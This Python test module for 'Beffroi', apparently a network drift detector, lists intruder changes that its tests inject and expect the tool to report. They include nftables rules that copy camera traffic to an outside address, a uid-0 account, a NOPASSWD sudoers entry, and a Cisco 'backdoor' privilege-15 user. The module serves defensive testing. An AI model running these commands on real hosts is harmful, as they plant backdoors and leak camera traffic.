"""What an intruder does to a commune's devices, as plain calls (issue 12): the drifts the tests
inject and expect `beffroi drift` to report. The lab end-to-end test injects the same ones.

Every function takes the device's address: the tests pass 127.0.0.1 peers, the lab its
containers. Nothing here goes through Beffroi's own clients (the drift must be found by them).
- Linux hosts: `LINUX[name]` is (shell script to run as root on the host, rule id expected,
  words expected in the drift detail); `FIREWALL` only on the firewall.
- Cameras: `camera_set_level`, `camera_add_user` (ONVIF SetUser / CreateUsers, onvif-zeep-async).
- Switches: `switch_add_lines` (config lines over SSH with netmiko, as a hand edit would).
"""

from __future__ import annotations

from typing import Any

MOVED_ENDPOINT = "203.0.113.7:51820"   # where the intruder points the tunnel (TEST-NET-3)
# name → (script, rule, words in the detail); scripts are idempotent enough for one injection
FIREWALL: dict[str, tuple[str, str, str]] = {
    "nft-copy-camera-vlan": (
        "nft add table ip copycat && nft add chain ip copycat pre '{ type filter hook "
        "prerouting priority -300; }' && nft add rule ip copycat pre ip saddr 10.57.0.64/27 "
        "dup to 203.0.113.9", "NET-1", "extra nftables table ip copycat"),
    "nft-port-forward": (
        "nft add table ip portfwd && nft add chain ip portfwd pre '{ type nat hook prerouting "
        "priority -100; }' && nft add rule ip portfwd pre tcp dport 2222 dnat to "
        "10.57.0.99:22", "NET-1", "extra nftables table ip portfwd"),
    "nft-rule-added": ("nft add rule inet beffroi input tcp dport 23 accept", "NET-1",
                       "loaded nftables table inet beffroi differs"),
    "wg-allowed-ips-widened": ("wg set wg-beffroi peer \"$(wg show wg-beffroi peers | head -1)\" "
                               "allowed-ips 0.0.0.0/0", "NET-2", "peer allowed ips is"),
    "wg-endpoint-moved": ("wg set wg-beffroi peer \"$(wg show wg-beffroi peers | head -1)\" "
                          f"endpoint {MOVED_ENDPOINT}", "NET-2", "peer endpoint is"),
    "wg-extra-peer": ("wg set wg-beffroi peer \"$(wg genkey | wg pubkey)\" allowed-ips "
                      "10.57.0.64/27", "NET-2", "extra WireGuard peer"),
}
LINUX: dict[str, tuple[str, str, str]] = {
    "sshd-permit-root-login": (
        "sed -i 's/^PermitRootLogin .*/PermitRootLogin yes/' /etc/ssh/sshd_config", "NET-3",
        "sshd permitrootlogin is yes"),
    "uid-0-account": ("useradd -o -u 0 -M toor", "NET-3", "account toor has uid 0"),
    "sudo-member": ("useradd -M intruder && usermod -aG sudo intruder", "NET-3",
                    "account intruder is a member of group sudo"),
    "sudoers-file": ("echo 'intruder ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-intruder",
                     "NET-3", "/etc/sudoers.d/90-intruder is not Beffroi's"),
}
NVR: dict[str, tuple[str, str, str]] = {
    "recorder-config-world-readable": ("chmod o+r /etc/beffroi/recorder.toml", "RET-1",
                                       "/etc/beffroi/recorder.toml is root:"),
}
# lines a hand edit adds on a switch (Cisco IOS); fake-switches refuses them all ("No such
# command"), so they are tested on the configuration comparison, and in the lab only on IOS
SWITCH_LINES: dict[str, list[str]] = {
    "snmp-community": ["snmp-server community intrusion RW"],
    "local-user": ["username backdoor privilege 15 secret 0 intrusion9"],
    "enable-password": ["enable password 0 intrusion9"],
    "extra-vty": ["line vty 5 15", " transport input telnet", " exit"],
}


async def _device(host: str, port: int, user: str, password: str) -> Any:
    from onvif import ONVIFCamera

    cam = ONVIFCamera(host, port, user, password)
    await cam.update_xaddrs()
    return cam, await cam.create_devicemgmt_service()


async def camera_set_level(host: str, port: int, admin: tuple[str, str], user: str,
                           level: str) -> None:
    """Demote (or promote) an existing camera account: ONVIF SetUser, password unchanged."""
    cam, dm = await _device(host, port, *admin)
    try:
        await dm.SetUser({"User": [{"Username": user, "UserLevel": level}]})
    finally:
        await cam.close()


async def camera_add_user(host: str, port: int, admin: tuple[str, str], user: str,
                          password: str, level: str = "Administrator") -> None:
    """Create an account on the camera (a factory `admin` put back, or a new one)."""
    cam, dm = await _device(host, port, *admin)
    try:
        await dm.CreateUsers({"User": [{"Username": user, "Password": password,
                                        "UserLevel": level}]})
    finally:
        await cam.close()


def switch_add_lines(host: str, port: int, creds: dict[str, Any], lines: list[str]) -> str:
    """Type configuration lines on a Cisco IOS switch over SSH; returns what it answered."""
    from netmiko import ConnectHandler

    conn = ConnectHandler(device_type="cisco_ios", host=host, port=port,
                          username=creds["username"], password=creds["password"],
                          secret=creds["enable_secret"], fast_cli=True)
    try:
        conn.enable()
        return str(conn.send_config_set(lines, exit_config_mode=False))
    finally:
        conn.disconnect()


async def camera_delete_user(host: str, port: int, admin: tuple[str, str], user: str) -> None:
    """Delete a camera account (the vaulted one, as a factory reset does)."""
    cam, dm = await _device(host, port, *admin)
    try:
        await dm.DeleteUsers({"Username": [user]})
    finally:
        await cam.close()
